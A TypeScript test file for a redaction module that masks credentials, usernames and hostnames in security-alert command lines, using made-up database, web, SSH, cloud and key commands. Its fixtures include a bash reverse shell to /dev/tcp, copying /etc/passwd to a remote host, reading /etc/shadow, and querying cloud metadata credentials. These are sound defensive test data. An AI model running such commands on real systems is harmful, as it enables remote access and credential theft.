import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { createAlertParser } from "#alert/parse.ts";
import { createVeil } from "./create-veil.ts";
import type { VeilOptions } from "./veil.ts";

const parser = createAlertParser({ now: () => new Date(0) });
const standard: VeilOptions = { enabled: true, level: "standard", preserveStructure: true };

/** A command line, what must be gone, what must stay; names, words and keys are made up here. */
type Case = readonly [command: string, gone: readonly string[], stays: readonly string[]];

const commands: readonly Case[] = [
  // Databases
  [
    "mysql -h orders-db -u jonas -pPlum-Kettle shop",
    ["orders-db", "jonas", "Plum-Kettle"],
    ["mysql -h ", " -u ", " -p", " shop"],
  ],
  [
    "mysqldump --user=mira --password=plum;ke&ttle7 --all-databases",
    ["mira", "plum;ke&ttle7"],
    ["mysqldump --user=", "--all-databases"],
  ],
  ["mysql -p shop", [], ["mysql -p shop"]],
  ["psql -h pg-orders-3 -U mira.k -d orders -c select 1", ["pg-orders-3", "mira.k"], ["-d orders -c select 1"]],
  ["env PGPASSWORD=plum7kettle psql", ["plum7kettle"], ["PGPASSWORD=", " psql"]],
  [
    "psql postgresql://mira:p%40ss%2Fw0rd@pg-orders-3.shop.lan:5432/orders?sslmode=require",
    ["mira", "p%40ss", "w0rd", "pg-orders-3"],
    ["postgresql://", ":5432/orders?sslmode=require"],
  ],
  ["redis-cli -h cache-blue -a Sesame99! CONFIG GET dir", ["cache-blue", "Sesame99!"], ["CONFIG GET dir"]],
  [
    "mongosh mongodb://mira:kettle7@mongo-a:27017,mongo-b:27017/shop",
    ["mira", "kettle7", "mongo-a", "mongo-b"],
    [":27017", "/shop"],
  ],
  ["mongodump --uri mongodb+srv://jonas:k3ttle@mongo-c.shop.lan/x --gzip", ["jonas", "k3ttle", "mongo-c"], ["--gzip"]],
  ["sqlcmd -S sql-orders-1 -U jonas -P Plum.77 -Q select 1", ["sql-orders-1", "jonas", "Plum.77"], ["-Q select 1"]],
  ["sqlplus jonas/plum77@//ora-1:1521/shop", ["jonas", "plum77"], ["sqlplus ", ":1521/shop"]],
  [
    "clickhouse-client --host ch-1.shop.lan --user mira --password kettle77",
    ["ch-1.shop.lan", "mira", "kettle77"],
    ["clickhouse-client"],
  ],
  ["cqlsh -u jonas -p plum77 cass-2", ["jonas", "plum77", "cass-2"], ["cqlsh"]],
  // Web
  [
    "curl -s -u jonas:hunter22 https://vault:8200/v1/sys",
    ["jonas", "hunter22", "//vault"],
    ["curl -s -u ", ":8200/v1/sys"],
  ],
  ["curl -sSu jonas:hunter22 http://10.1.2.3/", ["jonas", "hunter22", "10.1.2.3"], ["curl"]],
  [
    "curl -H Authorization: Bearer q1w2e3r4t5y6 https://build-7.shop.lan/x",
    ["q1w2e3r4t5y6", "build-7"],
    ["-H Authorization: Bearer "],
  ],
  [
    "bash -c curl -H 'Authorization: token q1w2e3r4t5' https://git.shop.lan/api",
    ["q1w2e3r4t5", "git.shop.lan"],
    ["Authorization: token ", "/api"],
  ],
  ["curl -H Cookie: sid=abc123def; theme=dark https://build-7.shop.lan/x", ["abc123def"], ["-H Cookie: "]],
  ["curl -b session=q1w2e3r4t5y6u7 http://10.1.2.3/x", ["q1w2e3r4t5y6u7"], ["session="]],
  [
    'curl -d {"user":"jonas","pass":"plum77"} https://sso.shop.lan/login',
    ["jonas", "plum77"],
    ['{"user":"', '","pass":"'],
  ],
  ["curl https://build-7.shop.lan/cb?access_token=q1w2e3r4&state=on", ["q1w2e3r4"], ["access_token=", "&state=on"]],
  [
    "curl -x http://mira:plum%2177@proxy-3:3128 https://shop-pool.example/",
    ["mira", "plum%2177", "proxy-3", "shop-pool.example"],
    [":3128"],
  ],
  ["wget --user=jonas --password=plum77 ftp://files-2.shop.lan/x.tgz", ["jonas", "plum77", "files-2"], ["/x.tgz"]],
  [
    "curl -X POST https://hooks.slack.com/services/T0SHOP0AA/B0SHOP0BB/abcd1234ABCDefgh5678 -d x",
    ["T0SHOP0AA", "abcd1234ABCDefgh5678"],
    ["hooks.slack.com/services/", "-d x"],
  ],
  ["curl http://167772167:8080/x", ["167772167"], [":8080/x"]],
  ["curl vault-3:8200/v1/x", ["vault-3"], [":8200/v1/x"]],
  // Logins
  [
    "ssh -i /home/mira/.ssh/id_rsa -p 2222 jonas@bastion-7 uptime",
    ["mira", "jonas", "bastion-7"],
    ["/.ssh/id_rsa -p 2222 ", " uptime"],
  ],
  ["ssh -l jonas bastion-7", ["jonas", "bastion-7"], ["ssh -l "]],
  ["sshpass -p Willow77 ssh -p 22 jonas@bastion-7", ["Willow77", "jonas", "bastion-7"], ["ssh -p 22 "]],
  [
    "sshpass -pWillow77 scp /etc/passwd jonas@10.9.8.7:/tmp",
    ["Willow77", "jonas", "10.9.8.7"],
    ["/etc/passwd ", ":/tmp"],
  ],
  ["scp -r bastion-7:/srv/data .", ["bastion-7"], [":/srv/data ."]],
  ["rsync -az /var/lib/app/ mira@files-2.shop.lan:/backup", ["mira", "files-2"], ["/var/lib/app/ ", ":/backup"]],
  ["su - jonas", ["jonas"], ["su - "]],
  ["sudo -u jonas cat /etc/shadow", ["jonas"], ["sudo -u ", " cat /etc/shadow"]],
  ["useradd -m -s /bin/bash jonas", ["jonas"], ["-m -s /bin/bash "]],
  ["usermod -aG sudo jonas", ["jonas"], ["-aG sudo "]],
  ["chown jonas:staff /srv/x", ["jonas"], [":staff /srv/x"]],
  ['bash -c echo "jonas:Plum-Kettle" | chpasswd', ["jonas", "Plum-Kettle"], ["| chpasswd"]],
  ["bash -c echo 'Plum Kettle' | sudo -S id", ["Plum Kettle"], ["| sudo -S id"]],
  [
    "bash -c printf '%s' Plum77 | docker login -u jonas --password-stdin ghcr.io",
    ["Plum77", "jonas"],
    ["--password-stdin ghcr.io"],
  ],
  ["bash -c sudo -S id <<< Plum77kettle", ["Plum77kettle"], ["sudo -S id"]],
  ["smbclient //files-2/share -U jonas%plum77", ["jonas", "plum77"], ["smbclient "]],
  ["htpasswd -b /etc/nginx/.htpasswd jonas plum77", ["jonas", "plum77"], ["/etc/nginx/.htpasswd"]],
  [
    "ldapsearch -x -D uid=mira,ou=people,dc=shop -w plum77 -H ldaps://ldap-1.shop.lan",
    ["mira", "plum77", "ldap-1"],
    ["ou=people,dc=shop"],
  ],
  ["mount -t cifs //files-2/x /mnt -o username=jonas,password=plum77,vers=3.0", ["jonas", "plum77"], ["vers=3.0"]],
  // Containers, clusters, clouds
  ["docker login -u jonas -p Plum+77= ghcr.io", ["jonas", "Plum+77="], ["docker login -u ", " ghcr.io"]],
  [
    "docker run -d -p 5432:5432 -e POSTGRES_PASSWORD=plum77 postgres:15",
    ["plum77"],
    ["-p 5432:5432", "POSTGRES_PASSWORD=", "postgres:15"],
  ],
  [
    "kubectl exec -it orders-db-0 -n payments -- /bin/sh",
    ["orders-db-0", "payments"],
    ["kubectl exec -it ", "-- /bin/sh"],
  ],
  ["kubectl get pods -n kube-system -o wide", [], ["kubectl get pods -n kube-system -o wide"]],
  [
    "kubectl --token=q1w2e3r4 --server=https://api-2.shop.lan:6443 get secrets",
    ["q1w2e3r4", "api-2"],
    [":6443 get secrets"],
  ],
  [
    "kubectl create secret generic db --from-literal=password=plum77",
    ["plum77"],
    ["kubectl create secret generic db --from-literal=password="],
  ],
  ["vault login hvs.CAESIAbcd1234Efgh5678Ijkl", ["hvs.CAESIAbcd1234Efgh5678Ijkl"], ["vault login "]],
  ["vault kv put secret/shop db=plum77", ["plum77"], ["secret/shop db="]],
  [
    "aws configure set aws_secret_access_key wJa1rXUtnFEM7IK7MDENGbPxRfiCYzzKEY12345 --profile x",
    ["wJa1rXUtnFEM7IK7MDENGbPxRfiCYzzKEY12345"],
    ["aws_secret_access_key ", "--profile x"],
  ],
  [
    "aws sts assume-role --role-arn arn:aws:iam::123456789012:role/ops --role-session-name jonas",
    ["123456789012", "jonas"],
    ["arn:aws:iam::", ":role/ops"],
  ],
  ["az login -u mira@shop.example -p Plum.77", ["mira@shop.example", "Plum.77"], ["az login -u "]],
  [
    "az storage blob list --connection-string AccountName=x;AccountKey=q1W2e3R4t5Y6u7I8o9P0q1W2e3R4t5Y6==;EndpointSuffix=core.windows.net",
    ["q1W2e3R4t5Y6u7I8o9P0q1W2e3R4t5Y6"],
    ["AccountName=x;", ";EndpointSuffix=core.windows.net"],
  ],
  [
    "gcloud auth activate-refresh-token mira@shop.example q1W2e3R4t5Y6u7I8o9P0",
    ["mira@shop.example", "q1W2e3R4t5Y6u7I8o9P0"],
    ["activate-refresh-token "],
  ],
  ["terraform apply -var=db_password=plum77 -auto-approve", ["plum77"], ["-var=db_password=", "-auto-approve"]],
  ["ansible-playbook -u jonas -e ansible_become_password=plum77 site.yml", ["jonas", "plum77"], ["site.yml"]],
  // Files and keys
  [
    "openssl rsa -in /etc/ssl/private/server.key -passin pass:Plum77",
    ["Plum77"],
    ["/etc/ssl/private/server.key -passin pass:"],
  ],
  ["zip -P plum77 out.zip /srv/x", ["plum77"], ["zip -P ", " out.zip /srv/x"]],
  ["7z a -pPlum77 out.7z /srv/x", ["Plum77"], ["7z a -p", " out.7z"]],
  ["gpg --batch --passphrase plum77 -c x", ["plum77"], ["--passphrase "]],
  [
    "java -Dspring.datasource.password=J4#x;y -jar app.jar",
    ["J4#x;y"],
    ["-Dspring.datasource.password=", "-jar app.jar"],
  ],
  ["tool --api-key q1w2e3r4t5 --namespace payments --verbose", ["q1w2e3r4t5", "payments"], ["--api-key ", "--verbose"]],
  [
    "git clone https://oauth2:glpat-q1W2e3R4t5Y6u7I8o9P0@git.shop.lan/x.git",
    ["glpat-", "git.shop.lan"],
    ["git clone https://oauth2:", "/x.git"],
  ],
  [
    "git push https://jonas:ghp_q1W2e3R4t5Y6u7I8o9P0q1W2e3R4t5Y6u7I8@github.com/shop/x.git main",
    ["jonas", "ghp_"],
    ["@github.com/shop/x.git main"],
  ],
  [
    "npm config set //npm.shop.lan/:_authToken npm_q1W2e3R4t5Y6u7I8o9P0q1W2e3R4t5Y6u7I8",
    ["npm_q1W2", "npm.shop.lan"],
    ["/:_authToken "],
  ],
  [
    "sh -c printf '-----BEGIN RSA PRIVATE KEY-----\\nMIIEabcd1234\\nEfgh5678\\n-----END RSA PRIVATE KEY-----' > /root/.ssh/id_rsa",
    ["MIIEabcd1234", "Efgh5678"],
    ["-----BEGIN RSA PRIVATE KEY-----", "/root/.ssh/id_rsa"],
  ],
  [
    "bash -c export DB_PASS='two words > one' && ./migrate.sh",
    ["two words > one"],
    ["export DB_PASS='", "' && ./migrate.sh"],
  ],
  [
    "bash -c cat > c.yml <<EOF db: host: orders-db-3 user: mira_k password: Plum.77 EOF",
    ["orders-db-3", "mira_k", "Plum.77"],
    ["c.yml"],
  ],
  [
    `bash -c echo ${Buffer.from("jonas:Plum-Kettle").toString("base64")} | base64 -d`,
    [Buffer.from("jonas:Plum-Kettle").toString("base64")],
    ["| base64 -d"],
  ],
  // Networks
  ["bash -c bash -i >& /dev/tcp/198.18.7.9/4444 0>&1", ["198.18.7.9"], ["bash -i >& /dev/tcp/", "/4444 0>&1"]],
  ["nslookup ip-10-0-7-15.eu-west-1.compute.internal 10.0.0.2", ["ip-10-0-7-15", "10.0.0.2"], ["nslookup "]],
  ["ping -c 3 worker-13", ["worker-13"], ["ping -c 3 "]],
  ["telnet 2a01:4f8::2 25", ["2a01:4f8::2"], ["telnet ", " 25"]],
  ["ping6 fe80::1234:5678%eth0", ["fe80::1234:5678"], ["%eth0"]],
  ["arping -c 1 -s 02:42:ac:11:00:05 172.17.0.9", ["02:42:ac:11:00:05", "172.17.0.9"], ["arping -c 1 -s "]],
  ["docker exec -it 97cbd8efa2eb sh", ["97cbd8efa2eb"], ["docker exec -it ", " sh"]],
  // Nothing to hide
  ["grep -r password /etc --include=*.conf", [], ["grep -r password /etc --include=*.conf"]],
  [
    "app --password-file /run/secrets/db --listen 0.0.0.0:8080",
    [],
    ["app --password-file /run/secrets/db --listen 0.0.0.0:8080"],
  ],
  ["npm install lodash@4.17.21 --save-exact", [], ["npm install lodash@4.17.21 --save-exact"]],
  ["kubectl label pod api app.kubernetes.io/name=api", [], ["app.kubernetes.io/name=api"]],
  ["java org.springframework.boot.loader.JarLauncher", [], ["java org.springframework.boot.loader.JarLauncher"]],
  [
    "curl -H Content-type: application/json http://localhost:3000/",
    [],
    ["curl -H Content-type: application/json http://localhost:3000/"],
  ],
  [
    "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    [],
    ["curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
  ],
  [
    "docker pull nginx@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    [],
    ["nginx@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"],
  ],
  ["find / -name id_rsa -o -name *.pem", [], ["find / -name id_rsa -o -name *.pem"]],
  ["sysctl -w net.ipv4.ip_forward=1", [], ["sysctl -w net.ipv4.ip_forward=1"]],
  ["tar xf nginx-1.24.0.2.tar.gz -C /opt", [], ["tar xf nginx-1.24.0.2.tar.gz -C /opt"]],
  ["python3 -c import socket;s=socket.socket();s.connect((0,1))", [], ["import socket;s=socket.socket();s.connect("]],
  ["mysql -u root -p$DB_PASSWORD", [], ["mysql -u root -p$DB_PASSWORD"]],
];

function veilFor(command: string) {
  const output = `Notice Something ran (user=root command=${command} parent=bash)`;
  const fields = { "user.name": "root", "proc.name": "bash", "proc.cmdline": command, "proc.pname": "bash" };
  const event = { rule: "R", priority: "Notice", time: "2026-03-14T01:00:00Z", hostname: "shop-node-1", output };
  return { output, veil: createVeil(parser.parse({ ...event, output_fields: fields }), standard) };
}

describe("command lines", () => {
  for (const [command, gone, stays] of commands) {
    it(`hides and keeps what it should in ${command.slice(0, 60)}`, () => {
      const { output, veil } = veilFor(command);
      for (const text of [veil.hide(output), veil.hide(command)]) {
        for (const value of gone) assert.ok(!text.includes(value), `${value} is in ${text}`);
        for (const value of stays) assert.ok(text.includes(value), `${value} is not in ${text}`);
        veil.check(text);
      }
    });
  }
});
